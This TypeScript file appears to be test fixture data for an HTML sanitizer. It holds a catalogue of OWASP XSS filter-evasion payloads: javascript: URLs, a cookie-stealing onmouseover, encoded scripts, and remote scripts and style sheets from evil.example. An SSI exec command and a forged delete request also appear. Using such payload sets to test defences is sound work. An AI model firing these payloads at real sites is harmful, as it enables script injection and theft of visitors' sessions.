const encoded = Buffer.from("<script>steal(1)</script>").toString("base64");

/** The rest of the headings in `owasp-filter-evasion.ts`: style sheets, documents, links. */
export const owaspStylesAndLinks: Readonly<Record<string, string>> = {
  "STYLE sheet": '<LINK REL="stylesheet" HREF="javascript:steal(1);">',
  "Remote style sheet": '<LINK REL="stylesheet" HREF="https://evil.example/x.css">',
  "Remote style sheet part 2": "<STYLE>@import'https://evil.example/x.css';</STYLE>a",
  "Remote style sheet part 3":
    '<META HTTP-EQUIV="Link" Content="<https://evil.example/x.css>; REL=stylesheet">',
  "Remote style sheet part 4":
    '<STYLE>BODY{-moz-binding:url("https://evil.example/x.xml#x")}</STYLE>',
  "STYLE Tags that Breaks Up JavaScript for XSS":
    "<STYLE>@im\\port'\\ja\\vasc\\ript:steal(1)';</STYLE>",
  "STYLE Attribute that Breaks Up an Expression": '<IMG STYLE="x:expr/*x*/ession(steal(1))">',
  "IMG STYLE with Expressions":
    "exp/*<A STYLE='no\\x:nox(\"*//*\");x:ex/*x*//*/*/pression(steal(1))'>",
  "STYLE Tag (Older versions of Netscape only)": '<STYLE TYPE="text/javascript">steal(1);</STYLE>',
  "STYLE Tag using Background-image":
    '<STYLE>.X{background-image:url("javascript:steal(1)");}</STYLE><A CLASS=X></A>',
  "STYLE Tag using Background":
    '<STYLE type="text/css">BODY{background:url("javascript:1")}</STYLE>',
  "Anonymous HTML with STYLE Attribute": '<XSS STYLE="x:expression(steal(1))">a',
  "Local htc File": '<XSS STYLE="behavior: url(x.htc);">a',
  "US-ASCII Encoding": "\u00bcscript\u00besteal(\u00a21\u00a2)\u00bc/script\u00be",
  META: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:steal(1);">',
  "META using Data": `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${encoded}">`,
  "META with Additional URL Parameter":
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:steal(1);">',
  IFRAME: '<IFRAME SRC="javascript:steal(1);"></IFRAME>',
  "IFRAME Event Based": '<IFRAME SRC=# onmouseover="steal(document.cookie)"></IFRAME>',
  FRAME: '<FRAMESET><FRAME SRC="javascript:steal(1);"></FRAMESET>',
  TABLE: '<TABLE BACKGROUND="javascript:steal(1)">',
  TD: '<TABLE><TD BACKGROUND="javascript:steal(1)">',
  "DIV Background-image": '<DIV STYLE="background-image: url(javascript:steal(1))">',
  "DIV Background-image with Unicoded XSS Exploit":
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029\">",
  "DIV Background-image Plus Extra Characters":
    '<DIV STYLE="background-image: url(\u0001\u3000javascript:steal(1))">',
  "DIV Expression": '<DIV STYLE="width: expression(steal(1));">',
  "Downlevel-Hidden Block": "<!--[if gte IE 4]><SCRIPT>steal(1);</SCRIPT><![endif]-->",
  "BASE Tag": '<BASE HREF="javascript:steal(1);//"><a href="x">a</a>',
  "OBJECT Tag": '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
  "EMBED a Flash Movie That Contains XSS":
    '<EMBED SRC="https://evil.example/x.swf" AllowScriptAccess="always"></EMBED>',
  "EMBED SVG Which Contains XSS Vector": `<EMBED SRC="data:image/svg+xml;base64,${encoded}" type="image/svg+xml"></EMBED>`,
  "Using ActionScript Inside Flash for Obfuscation": 'a="get";b="URL(";c="javascript:";eval(a+b+c)',
  "XML Data Island with CDATA Obfuscation":
    '<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:steal(1)"></B></I></XML><SPAN DATASRC="#x" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
  "Locally hosted XML with embedded JavaScript":
    '<XML SRC="x.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>',
  "HTML+TIME in XML":
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><t:set attributeName="innerHTML" to="<SCRIPT DEFER>steal(1)</SCRIPT>"></BODY></HTML>',
  "Assuming you can only fit in a few characters":
    '<SCRIPT SRC="https://evil.example/x.jpg"></SCRIPT>',
  "SSI (Server Side Includes)":
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=//evil.example></SCRIPT>'\"-->",
  PHP: "<? echo('<SCR)'; echo('IPT>steal(1)</SCRIPT>'); ?>",
  "IMG Embedded Commands": '<IMG SRC="https://www.nirbhay.example/api/blogs?delete=all">',
  "IMG Embedded Commands part II": '<IMG SRC="https://evil.example/redirects-here.jpg">',
  "Cookie Manipulation":
    '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>steal(1)</SCRIPT>">',
  "UTF-7 Encoding":
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"></HEAD>+ADw-SCRIPT+AD4-steal(1);+ADw-/SCRIPT+AD4-',
  "XSS Using HTML Quote Encapsulation": [
    '<SCRIPT a=">" SRC="https://evil.example/x.js"></SCRIPT>',
    '<SCRIPT =">" SRC="https://evil.example/x.js"></SCRIPT>',
    `<SCRIPT a=">" '' SRC="https://evil.example/x.js"></SCRIPT>`,
    `<SCRIPT "a='>'" SRC="https://evil.example/x.js"></SCRIPT>`,
    '<SCRIPT a=`>` SRC="https://evil.example/x.js"></SCRIPT>',
    `<SCRIPT a=">'>" SRC="https://evil.example/x.js"></SCRIPT>`,
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/x.js"></SCRIPT>',
  ].join(""),
  "URL String Evasion: IP Versus Hostname": '<A HREF="http://192.0.2.147/">a</A>',
  "URL String Evasion: URL Encoding": '<A HREF="http://%65%76%69%6C%2E%65%78%61%6D%70%6C%65">a</A>',
  "URL String Evasion: DWORD Encoding": '<A HREF="http://3221226131/">a</A>',
  "URL String Evasion: Hex Encoding": '<A HREF="http://0xC0.0x0000000.0x2.0x93/">a</A>',
  "URL String Evasion: Octal Encoding": '<A HREF="http://0300.0000.0002.00000223/">a</A>',
  "URL String Evasion: Base64 Encoding": `<img onload="eval(atob('${encoded}'))">`,
  "URL String Evasion: Mixed Encoding": '<A HREF="h\ntt\tp://19\t2.000000.0x2.147/">a</A>',
  "URL String Evasion: Protocol Resolution Bypass":
    '<A HREF="//evil.example/">a</A><A HREF="\\\\evil.example/">a</A><A HREF="/\\evil.example/">a</A>',
  'URL String Evasion: Google "feeling lucky" part 1': '<A HREF="//evil">a</A>',
  'URL String Evasion: Google "feeling lucky" part 2': '<A HREF="http://good.example@evil">a</A>',
  'URL String Evasion: Google "feeling lucky" part 3': '<A HREF="http://evil:good.example">a</A>',
  "URL String Evasion: Removing CNAMEs": '<A HREF="http://evil.example./">a</A>',
  "URL String Evasion: JavaScript Link Location":
    "<A HREF=\"javascript:document.location='https://evil.example/'\">a</A>",
  "URL String Evasion: Content Replace as Attack Vector":
    '<A HREF="javajavascript:script:steal(1)">a</A><A HREF="java&#x09;script:steal(1)">a</A>',
  "Assisting XSS with HTTP Parameter Pollution":
    '<a href="/share?content_type=1&title=A title&amp;content_type=1;steal(1)">a</a>',
  "Character Escape Sequences":
    "&lt;script&gt;steal(1)&lt;/script&gt;&#60script&#62steal(2)&#0000060/script&#x3e;\\x3cscript\\u003e%3Cscript%3E",
};
